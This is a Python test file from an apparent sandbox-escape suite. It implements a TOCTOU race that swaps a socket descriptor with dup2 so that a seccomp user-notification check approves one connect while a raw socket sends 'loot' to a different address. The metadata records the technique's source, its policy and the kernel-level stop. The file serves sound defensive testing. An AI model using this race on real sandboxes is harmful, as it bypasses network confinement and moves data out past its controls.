"""Swap the descriptor under a granted connect for another socket."""

import threading
import time

from tests.escape.grants import another_port, send_udp
from tests.escape.technique import Granted, Technique


def attack(world):
    stop = time.monotonic() + 0.25 * world.slowness
    granted, place = world.ipv4(9), 50
    datagram = world.socket_raw(2, 2)
    other = world.ipv4(world.udp)

    def flip():
        while time.monotonic() < stop:
            stream = world.libc.socket(2, 1, 0)
            world.libc.dup2(stream, place)
            world.libc.close(stream)
            world.libc.dup2(datagram, place)

    thread = threading.Thread(target=flip)
    thread.start()
    while time.monotonic() < stop:
        world.libc.connect(place, granted, 16)
        world.libc.sendto(place, b"loot", 4, 0, other, 16)
    thread.join()


TECHNIQUE = Technique(
    source="seccomp_unotify(2): a descriptor's number is looked up twice",
    policy=another_port,
    event=("net.send", "net.connect"),
    by="kernel",
    stops=("notification",),
    control=Granted(send_udp),
)
